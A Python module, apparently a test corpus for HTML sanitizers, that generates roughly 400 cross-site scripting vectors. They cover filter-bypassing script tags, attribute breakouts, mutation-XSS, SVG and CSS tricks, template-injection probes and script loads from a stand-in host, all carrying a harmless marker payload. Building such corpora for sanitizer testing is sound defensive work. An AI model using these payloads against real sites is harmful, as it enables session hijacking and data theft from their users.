"""Texts that would run something if they were taken for markup: families, and mixtures of them.

Written from the known families of such attacks, not copied from anybody's list.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

RUN: Final = "window.ran=1"  # what would run, wherever it can
EVENTS: Final = (
    "onload onerror onclick onmouseover onfocus onblur onanimationstart onanimationend ontoggle "
    "onpointerover onpointerenter onwheel onscroll oncut onpaste onbeforeinput onhashchange "
    "onpageshow onmessage onbegin onend onrepeat ontransitionend onresize onsearch oninvalid "
    "onbeforetoggle oncontentvisibilityautostatechange onformdata onsecuritypolicyviolation"
).split()
ELEMENTS: Final = (
    "img svg body details video audio input select textarea iframe object embed marquee style "
    "math form button isindex a table td div p template dialog slot custom-element"
).split()
SCHEMES: Final = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    " javascript:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "javascript&#x3A;{}",
    "&#106;avascript:{}",
    "javascript://%0a{}",
    "javascript://exemple.fr/%0d%0a{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "vbscript:{}",
    "feed:javascript:{}",
    "view-source:javascript:{}",
    "blob:javascript:{}",
)
_HOLDERS: Final = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<base href="{}//">',
    '<link rel="stylesheet" href="{}">',
    '<svg><a xlink:href="{}"><text y="9">x</text></a></svg>',
    '<math><mtext href="{}">x</mtext></math>',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<area href="{}">',
    '<video poster="{}"></video>',
    '<body background="{}">',
)
_SCRIPTS: Final = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script\t>",
    "<script/x>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script src=data:,{}></script>",
    "<script src=//exemple.invalid></script>",
    "<svg><script>{}</script></svg>",
    "<svg><script href='data:,{}'/></svg>",
    "<script type=module>{}</script>",
    "<script type=importmap>{{}}</script>",
    "<noscript><p title='</noscript><script>{}</script>'></noscript>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<!-- --!><script>{}</script> -->",
    "<![CDATA[<script>{}</script>]]>",
    "]]><script>{}</script><![CDATA[",
    "<?xml version='1.0'?><script>{}</script>",
    "<xml><x><script>{}</script></x></xml>",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u2039script\u203a{}\u2039/script\u203a",
    "<script>{}</script>\u202e<tpircs/>",
    "<\x00script>{}</script>",
    "<script\u2028>{}</script>",
    "\ufeff<script>{}</script>",
    "<script>{}\u2029</script>",
    "\U0001f600<script>{}</script>",
)
_BREAKING_OUT: Final = (
    '" {event}="{run}" x="',
    "' {event}='{run}' x='",
    "` {event}=`{run}` x=`",
    '"><img src=x {event}={run}>',
    "'><svg {event}={run}>",
    "\" autofocus tabindex=1 {event}='{run}",
    "x {event}={run} y",
    "&quot; {event}=&quot;{run}",
    "&#34;&#62;&#60;img src=x {event}={run}&#62;",
    "\x0b{event}={run}",
)
_MUTATION: Final = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><style></noscript><img src=x onerror={}>",
    "<svg><foreignObject><body><img src=x onerror={}></body></foreignObject></svg>",
    "<svg><desc><script>{}</script></desc></svg>",
    "<svg><style>&lt;img src=x onerror={}&gt;</style></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<template><img src=x onerror={}></template>",
    "<select><template><img src=x onerror={}></template></select>",
    "<table><tr><td><svg><desc><td><img src=x onerror={}>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror={}>'></xmp>",
    "<plaintext><img src=x onerror={}>",
    "<img alt='`<img src=x onerror={}>' src=x>",
    "<div id=a><style>@import 'javascript:{}';</style></div>",
)
_SVG: Final = (
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={}>",
    "<svg><a><animate attributeName=href values=javascript:{} /><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<svg><image href=x onerror={}></svg>",
    "<svg><handler type='text/javascript' ev:event='load'>{}</handler></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
)
_CSS: Final = (
    "<div style=\"background:url('javascript:{}')\">",
    '<div style="width:expression({})">',
    '<div style="behavior:url(x.htc)">',
    '<div style="-moz-binding:url(x#y)">',
    "<style>@import'//exemple.invalid/x.css';</style>",
    "<style>*{{background:url(javascript:{})}}</style>",
    "<link rel=stylesheet href=//exemple.invalid/x.css>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart='{}'></b>",
)
_TEMPLATES: Final = (
    "{{{{7*7}}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{%% if 1 %%}}{}{{%% endif %%}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{{{config}}}}",
    "{{{{''.__class__.__mro__}}}}",
    "[[{}]]",
    "{{{{{{{}}}}}}}",
    "*{{T(java.lang.Runtime)}}",
    "<div ng-app ng-csp>{{{{$on.constructor('{}')()}}}}</div>",
    "<div v-html='{}'></div>",
    "<x-y hx-on:load='{}'></x-y>",
)
_OTHERS: Final = (
    "[x](javascript:{})",
    "![x](javascript:{})",
    "[x]: javascript:{}",
    "<javascript:{}>",
    "[x](data:text/html,<script>{}</script>)",
    "<form id=document><input name=getElementById></form>",
    "<img name=body><a id=window href=x>{}</a>",
    "<input type=hidden name=csrf_token value=x>",
    "<base target=_blank><a href=//exemple.invalid>x</a>",
    "<meta charset=utf-7>+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\x1b$B<script>{}</script>",
    "<a href=//exemple.invalid ping=//exemple.invalid>x</a>",
    "<img srcset='x 1x, javascript:{} 2x'>",
    "<a download href='data:text/html,{}'>x</a>",
    '=HYPERLINK("javascript:{}")',
)


def vectors() -> Iterator[str]:
    """All of them, each once; some 400."""
    for event in EVENTS:
        for element in ELEMENTS[:: 1 if event in {"onload", "onerror", "onfocus"} else 6]:
            yield f"<{element} {event}={RUN} src=x autofocus open>"
    for event in ("onerror", "onfocus", "onmouseover"):
        for breaking in _BREAKING_OUT:
            yield breaking.format(event=event, run=RUN)
    for number, scheme in enumerate(SCHEMES):
        yield scheme.format(RUN)
        for holder in _HOLDERS[number % 4 :: 4]:
            yield holder.format(scheme.format(RUN))
    for family in (_SCRIPTS, _MUTATION, _SVG, _CSS, _TEMPLATES, _OTHERS):
        for written in family:
            yield written.format(RUN)
